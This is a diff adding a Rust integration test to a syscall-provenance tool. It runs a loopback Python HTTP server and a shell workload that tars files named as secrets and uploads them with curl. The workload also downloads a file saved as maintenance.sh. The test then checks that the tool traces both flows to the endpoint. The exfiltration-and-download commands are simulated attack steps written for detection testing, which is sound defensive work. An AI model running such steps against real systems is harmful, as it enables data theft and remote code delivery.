@@ -88,3 +88,81 @@ fn collect_writes_straight_into_the_store_and_an_archive() {
     assert_eq!(count(&db), count(&again));
     assert_ne!(count(&db), "0");
 }
+
+/// A loopback HTTP server: takes one PUT (keeps its body) and serves it back
+/// on one GET. Written to `port` once listening.
+const HTTP_SERVER: &str = r#"
+import re, socket, sys
+port_file, store = sys.argv[1], sys.argv[2]
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", 0))
+s.listen()
+open(port_file + ".tmp", "w").write(str(s.getsockname()[1]))
+import os; os.rename(port_file + ".tmp", port_file)
+for _ in range(2):
+    c, _ = s.accept()
+    data = b""
+    while b"\r\n\r\n" not in data:
+        data += c.recv(65536)
+    head, body = data.split(b"\r\n\r\n", 1)
+    if head.startswith(b"PUT"):
+        n = int(re.search(rb"content-length: *(\d+)", head, re.I).group(1))
+        while len(body) < n:
+            body += c.recv(65536)
+        open(store, "wb").write(body)
+        c.sendall(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+    else:
+        payload = open(store, "rb").read()
+        c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(payload) + payload)
+    c.close()
+"#;
+
+/// Exfiltration and download over TCP, with curl's non-blocking connect
+/// (-EINPROGRESS): the secret files reach the server's endpoint, and the
+/// downloaded script comes from it, through the graph.
+#[test]
+fn network_flows_join_files_to_the_remote_endpoint() {
+    let _turn = COLLECTOR.lock().unwrap_or_else(|e| e.into_inner());
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path().to_str().unwrap();
+    let events = dir.path().join("events.jsonl");
+    let db = dir.path().join("custos.db");
+    std::fs::write(dir.path().join("server.py"), HTTP_SERVER).unwrap();
+    let workload = format!(
+        "cd {d} && echo key > secret1 && echo pass > secret2 && tar cf archive.tar secret1 secret2 && \
+         (/usr/bin/python3 server.py port upload.bin &) && \
+         for i in $(seq 100); do [ -e port ] && break; sleep 0.05; done && p=$(cat port) && \
+         curl -sf -H 'Expect:' -T archive.tar http://127.0.0.1:$p/up && \
+         curl -sf -o download.sh http://127.0.0.1:$p/down && cp download.sh maintenance.sh && \
+         for i in $(seq 100); do pgrep -f 'server.py port' >/dev/null || break; sleep 0.05; done"
+    );
+    ok(&custos(&["collect", "-o", events.to_str().unwrap(), "--stats-interval", "0", "--", "sh", "-c", &workload]));
+    let port = std::fs::read_to_string(dir.path().join("port")).unwrap();
+    let endpoint = format!("127.0.0.1:{port}");
+    assert_eq!(std::fs::read(dir.path().join("maintenance.sh")).unwrap(), std::fs::read(dir.path().join("archive.tar")).unwrap());
+
+    // curl's connect is non-blocking: the stream shows it in progress.
+    let stream = std::fs::read_to_string(&events).unwrap();
+    let connects: Vec<serde_json::Value> = stream
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+        .filter(|v| v["syscall"] == "connect" && v["addr"] == endpoint.as_str())
+        .collect();
+    assert!(connects.iter().any(|c| c["ret"] == -115), "no connect in progress to {endpoint}: {connects:?}");
+
+    ok(&custos(&["ingest", "--db", db.to_str().unwrap(), "-q", events.to_str().unwrap()]));
+    let names = |dir_: &str, file: &str| -> Vec<String> {
+        let answer = ok(&custos(&["query", "--db", db.to_str().unwrap(), "--json", dir_, &format!("{d}/{file}")]));
+        let v: serde_json::Value = serde_json::from_str(&answer).unwrap();
+        v["nodes"].as_array().unwrap().iter().map(|n| n["name"].as_str().unwrap_or("").to_string()).collect()
+    };
+    let from_secret = names("descendants", "secret1");
+    assert!(from_secret.iter().any(|n| n.ends_with("/archive.tar")), "{from_secret:?}");
+    assert!(from_secret.contains(&endpoint), "the secret never reaches {endpoint}: {from_secret:?}");
+    let behind_script = names("ancestors", "maintenance.sh");
+    assert!(behind_script.contains(&endpoint), "maintenance.sh does not come from {endpoint}: {behind_script:?}");
+    // The server's side: what it stored came in over an accepted connection.
+    let behind_upload = names("ancestors", "upload.bin");
+    assert!(behind_upload.iter().any(|n| n.starts_with("127.0.0.1:") && *n != endpoint), "{behind_upload:?}");
+}
